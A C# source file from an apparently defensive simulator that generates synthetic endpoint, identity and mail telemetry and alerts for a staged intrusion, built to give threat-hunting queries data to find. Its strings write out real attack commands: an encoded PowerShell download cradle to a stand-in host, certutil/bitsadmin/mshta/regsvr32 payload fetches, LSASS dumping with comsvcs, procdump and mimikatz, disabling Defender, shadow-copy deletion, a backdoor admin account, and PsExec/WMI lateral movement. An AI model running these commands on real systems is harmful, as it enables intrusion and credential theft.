using System.Text;
using System.Text.Json;
using Vigil.Simulator.Activity;
using Vigil.Simulator.World;

namespace Vigil.Simulator.Stories;

/// <summary>
/// An intrusion told across every table, so hunting queries have something to find: a phishing mail with a link
/// (clicked) and a macro document; Word starting encoded PowerShell that downloads an implant; persistence in a
/// Run key and a scheduled task; discovery; LOLBins (certutil, bitsadmin, mshta, regsvr32); credential dumping
/// (comsvcs MiniDump, procdump, mimikatz); a password spray and lateral movement with PsExec and WMI using a stolen
/// admin account; a new Domain Admins member; a cloud sign-in from the attacker's IP; and the alerts that fire.
/// </summary>
internal sealed class AttackStory(SimulationContext context, MailWriter mail, AlertWriter alerts)
{
    private const string DownloadCradle = "IEX (New-Object Net.WebClient).DownloadString('http://cdn-update-service.net/a.ps1')";

    /// <summary>The story's day: the latest calendar day whose working hours lie in the simulated window.</summary>
    public static DateTime? DayOf(SimulationContext context)
    {
        for (var day = context.End.Date; day >= context.Start.Date.AddDays(-1); day = day.AddDays(-1))
        {
            if (day.AddHours(9.5) >= context.Start && day.AddHours(16) < context.End)
            {
                return day;
            }
        }

        return null;
    }

    /// <summary>Tells the story on <paramref name="day"/> given the victim's session that day.</summary>
    public void Run(DateTime day, DaySession session, Device victim)
    {
        var writer = context.WriterOf(victim);
        var user = session.User;
        var org = context.Organization;
        var admin = org.Admins[0];
        var home = $@"C:\Users\{user.Name}";

        // 10:05 the phishing mail; 10:12 the click; the look-alike sign-in page.
        var t = day.AddHours(10).AddMinutes(5);
        var phishUrl = $"https://{Destinations.Phishing.Url}/auth/login?session={user.Name}";
        var attachment = Digests.Of("Invoice_8841.docm");
        var email = new Email("it-support@contoso-sharepoint-login.com", "Contoso IT Support", "203.0.113.9", null, user.Upn!, user,
            "Action required: your password expires today", "Inbound", [("Invoice_8841.docm", "docm", 48_128, attachment)], [phishUrl]);
        var messageId = mail.Send(email, t);
        mail.Click(user, phishUrl, email, t.AddMinutes(7), "ClickAllowed", messageId);
        var browserOpen = t.AddMinutes(7).AddSeconds(1);
        writer.Event(session.Outlook, "BrowserLaunchedToOpenUrl", browserOpen, w => w.WriteString("RemoteUrl", phishUrl));
        writer.Connect(session.Browser, Destinations.Phishing.Ip, 443, Destinations.Phishing.Url, browserOpen.AddSeconds(1));
        writer.Event(session.Browser, "SmartScreenUrlWarning", browserOpen.AddSeconds(2), w => w.WriteString("RemoteUrl", phishUrl), """{"Experience":"Phishing"}""");
        writer.Event(session.Browser, "SmartScreenUserOverride", browserOpen.AddSeconds(9), w => w.WriteString("RemoteUrl", phishUrl));

        // 10:20 the macro document: Word runs encoded PowerShell, which fetches the implant.
        t = day.AddHours(10).AddMinutes(20);
        var document = $@"{home}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\K3J9QX2M\Invoice_8841.docm";
        writer.File(session.Outlook, document, "FileCreated", t, 48_128, hashes: attachment);
        var word = writer.Start(session.Explorer, Images.Word, $"\"{Images.Word.Path}\" /n \"{document}\" /o \"\"", t.AddSeconds(4));
        var encoded = Convert.ToBase64String(Encoding.Unicode.GetBytes(DownloadCradle));
        var stager = writer.Start(word, Images.PowerShell, $"powershell.exe -nop -w hidden -EncodedCommand {encoded}", t.AddSeconds(19));
        writer.Event(word, "AsrOfficeChildProcessAudited", t.AddSeconds(19), w => DeviceWriter.TargetProcess(w, stager),
            """{"IsAudit":true,"RuleId":"d4f940ab-401b-4efc-aadc-ad5f3c50688a"}""");
        writer.Event(stager, "PowerShellCommand", t.AddSeconds(21), _ => { }, """{"Command":"New-Object"}""");
        writer.Event(stager, "AmsiScriptContent", t.AddSeconds(21), _ => { }, "{\"ScriptContent\":" + JsonSerializer.Serialize(DownloadCradle) + "}");
        writer.Connect(stager, Destinations.Payload.Ip, 80, Destinations.Payload.Url, t.AddSeconds(22));
        var implantPath = Images.Implant.Path;
        writer.File(stager, implantPath, "FileCreated", t.AddSeconds(25), Images.Implant.Size, $"http://{Destinations.Payload.Url}/updater.exe", Destinations.Payload.Ip,
            hashes: Images.Implant.Hashes);
        var implant = writer.Start(stager, Images.Implant, $"\"{implantPath}\" --service", t.AddSeconds(30));
        for (var beacon = t.AddSeconds(35); beacon < day.AddHours(16); beacon = beacon.AddMinutes(5).AddSeconds(writer.Random.Next(-30, 30)))
        {
            writer.Connect(implant, Destinations.CommandAndControl.Ip, 443, Destinations.CommandAndControl.Url, beacon);
        }

        alerts.Alert(t.AddMinutes(1), "Suspicious PowerShell command line", "Execution", "High", "Microsoft Defender for Endpoint", "EDR",
            """["PowerShell (T1059.001)","Obfuscated Files or Information (T1027)"]""",
            AlertWriter.Machine(victim), AlertWriter.User(user), AlertWriter.Process(victim, stager), AlertWriter.Url($"http://{Destinations.Payload.Url}/a.ps1"));

        // Persistence: a Run key and a scheduled task.
        t = day.AddHours(10).AddMinutes(31);
        writer.Registry(stager, $@"HKEY_CURRENT_USER\{user.Sid}\SOFTWARE\Microsoft\Windows\CurrentVersion\Run", "RegistryValueSet", t, "OneDriveUpdate", "String", $"\"{implantPath}\" --service");
        var schtasksCmd = writer.Start(implant, Images.Cmd, $"cmd.exe /c schtasks /create /tn \"Microsoft\\Windows\\Maintenance\\Updater\" /tr \"{implantPath}\" /sc onlogon /ru System /f", t.AddSeconds(10));
        var schtasks = writer.Start(schtasksCmd, Images.Schtasks, $"schtasks  /create /tn \"Microsoft\\Windows\\Maintenance\\Updater\" /tr \"{implantPath}\" /sc onlogon /ru System /f", t.AddSeconds(11));
        writer.Event(schtasks, "ScheduledTaskCreated", t.AddSeconds(12), _ => { },
            "{\"TaskName\":\"\\\\Microsoft\\\\Windows\\\\Maintenance\\\\Updater\",\"TaskContent\":" + JsonSerializer.Serialize($"<Exec><Command>{implantPath}</Command></Exec>") + "}");

        writer.Event(implant, "NamedPipeEvent", t.AddSeconds(20), _ => { },
            """{"PipeName":"\\Device\\NamedPipe\\msagent_4c1f","FileOperation":"File created","NamedPipeEnd":"Server"}""");

        // 11:00 discovery.
        t = day.AddHours(11);
        var shell = writer.Start(implant, Images.Cmd, "cmd.exe /c \"whoami /all & net group \"domain admins\" /domain & nltest /dclist:contoso\"", t);
        writer.Start(shell, Images.Whoami, "whoami  /all", t.AddSeconds(1));
        var net = writer.Start(shell, Images.Net, "net  group \"domain admins\" /domain", t.AddSeconds(2));
        writer.Start(net, Images.Net1, "C:\\Windows\\system32\\net1  group \"domain admins\" /domain", t.AddSeconds(2));
        writer.Start(shell, Images.Nltest, "nltest  /dclist:contoso", t.AddSeconds(3));
        if (org.DomainController is { } dc)
        {
            context.Identity.Query(user, victim, dc, t.AddSeconds(2), "SAMR query", "QueryGroup", "Domain Admins", null, "Samr");
            context.Identity.Query(user, victim, dc, t.AddSeconds(4), "LDAP query", "AllDomainControllers", Organization.DnsDomain,
                "(&(objectCategory=computer)(userAccountControl:1.2.840.113556.1.4.803:=8192))", "Ldap");
            context.Identity.Query(user, victim, dc, t.AddSeconds(6), "LDAP query", "AllUsers", Organization.DnsDomain, "(&(objectCategory=person)(objectClass=user))", "Ldap");
        }

        // 11:20 living off the land: downloads through certutil and bitsadmin, script through mshta and regsvr32.
        t = day.AddHours(11).AddMinutes(20);
        var tools = $"http://{Destinations.Payload.Url}/tools.zip";
        var certutil = writer.Start(implant, Images.Certutil, $"certutil.exe -urlcache -split -f {tools} C:\\Users\\Public\\tools.zip", t);
        writer.Connect(certutil, Destinations.Payload.Ip, 80, Destinations.Payload.Url, t.AddSeconds(1));
        writer.File(certutil, @"C:\Users\Public\tools.zip", "FileCreated", t.AddSeconds(3), 2_304_112, tools, Destinations.Payload.Ip);
        writer.Start(implant, Images.Bitsadmin, $"bitsadmin /transfer update /download /priority high http://{Destinations.Payload.Url}/procdump64.exe C:\\Users\\Public\\procdump64.exe", t.AddMinutes(1));
        writer.File(implant, Images.ProcDump.Path, "FileCreated", t.AddMinutes(1).AddSeconds(5), Images.ProcDump.Size, hashes: Images.ProcDump.Hashes);
        writer.File(implant, Images.Mimikatz.Path, "FileCreated", t.AddMinutes(1).AddSeconds(9), Images.Mimikatz.Size, hashes: Images.Mimikatz.Hashes);
        var mshta = writer.Start(implant, Images.Mshta, $"mshta.exe http://{Destinations.Payload.Url}/update.hta", t.AddMinutes(2));
        writer.Connect(mshta, Destinations.Payload.Ip, 80, Destinations.Payload.Url, t.AddMinutes(2).AddSeconds(1));
        writer.Start(implant, Images.Regsvr32, $"regsvr32.exe /s /n /u /i:http://{Destinations.Payload.Url}/file.sct scrobj.dll", t.AddMinutes(3));

        // 11:30 credential dumping: comsvcs MiniDump, procdump, mimikatz.
        t = day.AddHours(11).AddMinutes(30);
        var baseline = context.Baselines[victim.Index];
        var elevated = writer.Start(implant, Images.PowerShell, "powershell.exe -ExecutionPolicy Bypass -NoProfile -Command \"Start-Process cmd -Verb RunAs\"", t, integrity: "High");
        var rundll = writer.Start(elevated, Images.Rundll32, $"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {baseline.Lsass.Id} C:\\ProgramData\\lsass.dmp full", t.AddSeconds(5));
        writer.LoadImage(rundll, Images.Comsvcs, t.AddSeconds(5).AddMilliseconds(40));
        writer.Event(rundll, "OpenProcessApiCall", t.AddSeconds(6), w => DeviceWriter.TargetProcess(w, baseline.Lsass), """{"DesiredAccess":2097151}""");
        writer.File(rundll, @"C:\ProgramData\lsass.dmp", "FileCreated", t.AddSeconds(8), 52_428_800);
        var procdump = writer.Start(elevated, Images.ProcDump, "procdump64.exe -accepteula -ma lsass.exe C:\\Users\\Public\\lsass.dmp", t.AddMinutes(2));
        writer.Event(procdump, "OpenProcessApiCall", t.AddMinutes(2).AddSeconds(1), w => DeviceWriter.TargetProcess(w, baseline.Lsass), """{"DesiredAccess":2097151}""");
        writer.File(procdump, @"C:\Users\Public\lsass.dmp", "FileCreated", t.AddMinutes(2).AddSeconds(4), 52_428_800);
        var mimikatz = writer.Start(elevated, Images.Mimikatz, "mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit", t.AddMinutes(4));
        writer.Event(mimikatz, "OpenProcessApiCall", t.AddMinutes(4).AddSeconds(1), w => DeviceWriter.TargetProcess(w, baseline.Lsass), """{"DesiredAccess":4112}""");
        writer.Event(baseline.MsMpEng, "AntivirusDetection", t.AddMinutes(4).AddSeconds(3), w =>
        {
            w.WriteString("FileName", Images.Mimikatz.FileName);
            w.WriteString("FolderPath", Images.Mimikatz.Path);
            w.WriteString("SHA1", Images.Mimikatz.Hashes.Sha1);
            w.WriteString("SHA256", Images.Mimikatz.Hashes.Sha256);
            w.WriteString("MD5", Images.Mimikatz.Hashes.Md5);
        }, """{"ThreatName":"HackTool:Win32/Mimikatz.D","WasRemediated":false,"WasExecutingWhileDetected":true}""");
        alerts.Alert(t.AddMinutes(4).AddSeconds(5), "Mimikatz credential theft tool", "CredentialAccess", "High", "Microsoft Defender for Endpoint", "Antivirus",
            """["OS Credential Dumping (T1003)","LSASS Memory (T1003.001)"]""",
            AlertWriter.Machine(victim), AlertWriter.User(user), AlertWriter.File(victim, Images.Mimikatz, "Mimikatz"), AlertWriter.Process(victim, mimikatz));
        alerts.Alert(t.AddSeconds(10), "Suspicious access to LSASS service", "CredentialAccess", "High", "Microsoft Defender for Endpoint", "EDR",
            """["LSASS Memory (T1003.001)"]""", AlertWriter.Machine(victim), AlertWriter.Process(victim, rundll));

        // Defense evasion: turn off real-time protection, delete shadow copies.
        t = day.AddHours(11).AddMinutes(40);
        writer.Event(elevated, "PowerShellCommand", t, _ => { }, """{"Command":"Set-MpPreference"}""");
        writer.Registry(elevated, @"HKEY_LOCAL_MACHINE\SOFTWARE\Policies\Microsoft\Windows Defender\Real-Time Protection", "RegistryValueSet", t.AddSeconds(1),
            "DisableRealtimeMonitoring", "Dword", "1", "0");
        writer.Start(elevated, Images.Vssadmin, "vssadmin.exe delete shadows /all /quiet", t.AddMinutes(1));

        // A local back-door account in the Administrators group.
        var netUser = writer.Start(elevated, Images.Net, "net user support P@ssw0rd123! /add", t.AddMinutes(2));
        const string backdoorSid = "S-1-5-21-1004336348-1177238915-682003330-1010";
        writer.Event(netUser, "UserAccountCreated", t.AddMinutes(2).AddSeconds(1), w =>
        {
            w.WriteString("AccountDomain", victim.HostName);
            w.WriteString("AccountName", "support");
            w.WriteString("AccountSid", backdoorSid);
        });
        var netGroup = writer.Start(elevated, Images.Net, "net localgroup administrators support /add", t.AddMinutes(2).AddSeconds(20));
        writer.Event(netGroup, "UserAccountAddedToLocalGroup", t.AddMinutes(2).AddSeconds(21), w =>
        {
            w.WriteString("AccountDomain", "builtin");
            w.WriteString("AccountName", "administrators");
            w.WriteString("AccountSid", "S-1-5-32-544");
        }, "{\"GroupName\":\"Administrators\",\"GroupDomainName\":\"BUILTIN\",\"GroupSid\":\"S-1-5-32-544\",\"MemberSid\":\"" + backdoorSid + "\"}");

        LateralMovement(day, victim, session, admin, implant);

        // The attacker uses the phished password from elsewhere.
        t = day.AddHours(13).AddMinutes(2);
        context.Identity.CloudLogon(user, t, Destinations.AttackerIp, "RU", "Unknown Hosting Ltd");
        mail.CloudApp(user, t.AddMinutes(3), "Microsoft Exchange Online", 20893, "MailItemsAccessed", "Inbox", Destinations.AttackerIp, "RU", "Unknown Hosting Ltd");
        mail.CloudApp(user, t.AddMinutes(5), "Microsoft Exchange Online", 20893, "New-InboxRule", "Move to RSS Feeds", Destinations.AttackerIp, "RU", "Unknown Hosting Ltd");
        alerts.Alert(t.AddMinutes(6), "Suspicious inbox manipulation rule", "Persistence", "Medium", "Microsoft Defender for Cloud Apps", "MCAS",
            """["Email Hiding Rules (T1564.008)"]""", AlertWriter.User(user), AlertWriter.Ip(Destinations.AttackerIp));

        // 14:00 the link is found malicious after delivery: zero-hour auto purge.
        t = day.AddHours(14);
        mail.PostDelivery(messageId, email, t, "Moved to quarantine", "Phish ZAP", "SpecialAction", "Phish");
        alerts.Alert(t.AddSeconds(30), "Email messages containing malicious URL removed after delivery", "InitialAccess", "Informational",
            "Microsoft Defender for Office 365", "Microsoft Defender for Office 365", """["Phishing (T1566)"]""",
            AlertWriter.Mail(messageId, email.Subject, user), AlertWriter.Url(phishUrl), AlertWriter.User(user));
    }

    private void LateralMovement(DateTime day, Device victim, DaySession session, Account admin, Proc implant)
    {
        var user = session.User;
        var org = context.Organization;
        var target = org.Devices.FirstOrDefault(d => d.Role == DeviceRole.FileServer)
            ?? org.Devices.FirstOrDefault(d => d != victim && d.Role != DeviceRole.DomainController);
        var dc = org.DomainController;
        var writer = context.WriterOf(victim);

        // 12:00 a password spray against the domain controller, then success with the admin's password.
        var t = day.AddHours(12);
        if (dc is not null)
        {
            var dcWriter = context.WriterOf(dc);
            var dcBaseline = context.Baselines[dc.Index];
            var sprayed = org.Users.Take(8).ToList();
            for (var i = 0; i < sprayed.Count; i++)
            {
                var at = t.AddSeconds(i * 3);
                dcWriter.Logon(dcBaseline.Lsass, sprayed[i], "Network", at, 0, "LogonFailed", "NTLM", "InvalidUserNameOrPassword", victim);
                context.Identity.DomainLogon(sprayed[i], victim, dc, at, "Ntlm", "Credentials validation", null, "LogonFailed", "WrongPassword");
            }

            dcWriter.Logon(dcBaseline.Lsass, admin, "Network", t.AddMinutes(1), dcWriter.NewLogonId(), "LogonSuccess", "NTLM", from: victim, isLocalAdmin: true);
            context.Identity.DomainLogon(admin, victim, dc, t.AddMinutes(1), "Ntlm", "Credentials validation");
            context.Identity.DirectoryChange(admin, user, victim, t.AddMinutes(3), "Group Membership changed",
                """{"TO.GROUP":"Domain Admins","GROUP.TYPE":"Security","TARGET_OBJECT.USER":"added"}""");
            alerts.Alert(t.AddMinutes(2), "Password spray attack", "CredentialAccess", "Medium", "Microsoft Defender for Identity", "Microsoft Defender for Identity",
                """["Password Spraying (T1110.003)"]""", AlertWriter.Machine(victim), AlertWriter.User(admin));
        }

        if (target is null)
        {
            return;
        }

        // 12:10 PsExec to the target with the admin's credentials, then WMI.
        t = day.AddHours(12).AddMinutes(10);
        var targetWriter = context.WriterOf(target);
        var targetBaseline = context.Baselines[target.Index];
        writer.Connect(implant, target.IpAddress, 445, null, t);
        writer.Connect(implant, target.IpAddress, 135, null, t.AddMinutes(5));
        var logonId = targetWriter.NewLogonId();
        targetWriter.Logon(targetBaseline.Lsass, admin, "Network", t.AddSeconds(1), logonId, "LogonSuccess", "NTLM", from: victim, isLocalAdmin: true);
        targetWriter.Connect(targetBaseline.Kernel, victim.IpAddress, writer.Random.Next(49152, 65535), null, t.AddSeconds(1), "InboundConnectionAccepted", localPort: 445);
        targetWriter.File(targetBaseline.Kernel, Images.PsExec.Path, "FileCreated", t.AddSeconds(2), Images.PsExec.Size, shareName: "ADMIN$",
            requestSourceIp: victim.IpAddress, requester: admin, hashes: Images.PsExec.Hashes);
        targetWriter.Registry(targetBaseline.Services, @"HKEY_LOCAL_MACHINE\SYSTEM\ControlSet001\Services\PSEXESVC", "RegistryKeyCreated", t.AddSeconds(3));
        targetWriter.Event(targetBaseline.Services, "ServiceInstalled", t.AddSeconds(3), _ => { },
            """{"ServiceName":"PSEXESVC","ServiceAccount":"LocalSystem","ServiceStartType":3,"ServiceType":16}""");
        var psexesvc = targetWriter.Start(targetBaseline.Services, Images.PsExec, @"C:\Windows\PSEXESVC.exe", t.AddSeconds(4), Account.System, "System");
        var remote = targetWriter.Start(psexesvc, Images.Cmd, "\"cmd\" /c whoami & ipconfig /all & net localgroup administrators", t.AddSeconds(6), admin, "High", logonId);
        targetWriter.Start(remote, Images.Whoami, "whoami", t.AddSeconds(7));
        if (dc is not null)
        {
            context.Identity.DomainLogon(admin, victim, dc, t.AddSeconds(1), "Ntlm", "Resource access", target);
        }

        var wmic = writer.Start(implant, Images.Wmic, $"wmic /node:{target.HostName} process call create \"{Images.Implant.Path} --service\"", t.AddMinutes(5));
        writer.Connect(wmic, target.IpAddress, 135, null, t.AddMinutes(5).AddSeconds(1));
        var wmiHost = targetBaseline.WmiPrvSe;
        targetWriter.Event(wmiHost, "ProcessCreatedUsingWmiQuery", t.AddMinutes(5).AddSeconds(2), w =>
        {
            w.WriteString("ProcessCommandLine", $"{Images.Implant.Path} --service");
            w.WriteString("FileName", Images.Implant.FileName);
        }, "{\"IsRemote\":true}");
        targetWriter.File(targetBaseline.Kernel, Images.Implant.Path, "FileCreated", t.AddMinutes(4), Images.Implant.Size, shareName: "C$",
            requestSourceIp: victim.IpAddress, requester: admin, hashes: Images.Implant.Hashes);
        targetWriter.Start(wmiHost, Images.Implant, $"{Images.Implant.Path} --service", t.AddMinutes(5).AddSeconds(3), admin, "High", logonId);

        // RDP onto the target too.
        var rdp = writer.Start(session.Explorer, Images.Mstsc, $"\"C:\\Windows\\system32\\mstsc.exe\" /v:{target.HostName}", t.AddMinutes(20));
        writer.Connect(rdp, target.IpAddress, 3389, null, t.AddMinutes(20).AddSeconds(1));
        targetWriter.Logon(targetBaseline.Winlogon, admin, "RemoteInteractive", t.AddMinutes(20).AddSeconds(5), targetWriter.NewLogonId(), "LogonSuccess", "Negotiate",
            from: victim, isLocalAdmin: true);

        alerts.Alert(t.AddMinutes(1), "Possible lateral movement using PsExec", "LateralMovement", "Medium", "Microsoft Defender for Endpoint", "EDR",
            """["Service Execution (T1569.002)","SMB/Windows Admin Shares (T1021.002)"]""",
            AlertWriter.Machine(target), AlertWriter.User(admin), AlertWriter.Process(target, psexesvc), AlertWriter.Ip(victim.IpAddress));
    }
}
